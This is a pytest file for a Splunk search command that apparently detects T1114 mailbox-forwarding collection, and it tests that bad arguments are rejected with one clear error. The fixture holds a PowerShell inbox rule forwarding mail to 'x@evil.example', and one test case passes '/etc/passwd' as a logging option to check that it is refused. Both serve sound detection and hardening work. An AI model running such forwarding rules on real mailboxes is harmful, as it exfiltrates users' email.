"""What `| t1114 ...` does with arguments it does not understand, through the real command
over the chunked protocol: an error in the job inspector naming every valid option, and no
results, never a silent fallback to the defaults."""

import importlib.util
import sys

import pytest

from tools.chunked_client import ChunkedCommand, run, script_path

FORWARDING_EVENT = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": "mallory@contoso.com",
                    "ScriptBlockText": "New-InboxRule -Name a -ForwardTo x@evil.example"}


@pytest.fixture(scope="module")
def declared_options(built_app):
    """The options the shipped command class declares, read from the class itself, so an
    option added there is expected in every message without this test changing."""
    spec = importlib.util.spec_from_file_location("t1114_command_under_test", script_path(built_app))
    module = importlib.util.module_from_spec(spec)
    saved_path = list(sys.path)
    try:
        spec.loader.exec_module(module)  # puts the built app's lib/ on the path, for splunklib
    finally:
        sys.path[:] = saved_path
    names = [name for name, value in vars(module.T1114Command).items() if isinstance(value, module.Option)]
    splunklib_names = {"record", "show_configuration", "logging_configuration", "logging_level", "logging_appender"}
    own = [name for name in names if name not in splunklib_names]
    assert {"mode", "allowlist"} <= set(own)
    return own


def refusal(built_app, args):
    result = run(script_path(built_app), [dict(FORWARDING_EVENT)], args=args)
    errors = [text for level, text in result["messages"] if level == "ERROR"]
    return result, errors


@pytest.mark.parametrize("args, named", [
    (["all"], ['"all"', "did you mean mode=all?"]),                         # the slip the issue saw
    (["findings"], ['"findings"', "did you mean mode=findings?"]),
    (["foo=bar"], ['"foo=bar" is not an option']),
    (["Mode=all"], ['"Mode=all"', "did you mean mode=all?"]),
    (["mode=all", "stray"], ['"stray" is not an option']),
    (["mode=everything"], ["mode=everything: mode takes all|findings"]),
    (["allowlist=maybe"], ["allowlist=maybe: allowlist takes true|false"]),
    # splunklib's own options are not the search's: one loads a logging file (which runs code),
    # one records the input to disk.
    (["logging_configuration=/etc/passwd"], ['"logging_configuration=/etc/passwd" is not an option']),
    (["record=true"], ['"record=true" is not an option']),
    (["show_configuration=true"], ['"show_configuration=true" is not an option']),
])
def test_an_argument_the_command_does_not_use_is_an_error_naming_the_valid_options(built_app, declared_options,
                                                                                  args, named):
    result, errors = refusal(built_app, args)
    assert len(errors) == 1, result["messages"]
    (error,) = errors
    for text in named:
        assert text in error, error
    for name in declared_options:
        assert "%s=" % name in error.split("t1114 takes", 1)[1], (name, error)
    assert result["records"] == [] and result["exit_code"] != 0
    assert "Traceback" not in result["stderr"]


def test_several_bad_arguments_are_named_in_one_error(built_app):
    _, errors = refusal(built_app, ["all", "mode=all", "bogus=1", "x"])
    assert len(errors) == 1
    assert '"all"' in errors[0] and '"bogus=1"' in errors[0] and '"x"' in errors[0]
    assert '"mode=all"' not in errors[0]


def test_the_refusal_reaches_splunkd_as_the_getinfo_reply(built_app):
    """splunkd reads the error from the getinfo reply's inspector and stops the search there."""
    with ChunkedCommand(script_path(built_app), ["all"]) as command:
        info = command.getinfo()
    assert [level for level, _ in info["inspector"]["messages"]] == ["ERROR"]
    assert command.returncode != 0


@pytest.mark.parametrize("args", [[], ["mode=all"], ["mode=findings", "allowlist=false"], ["allowlist=f"]])
def test_valid_arguments_still_run(built_app, args):
    result = run(script_path(built_app), [dict(FORWARDING_EVENT)], args=args)
    assert result["exit_code"] == 0, result["stderr"]
    assert not [text for level, text in result["messages"] if level == "ERROR"]
    assert [r["t1114_status"] for r in result["records"]] == ["finding"]
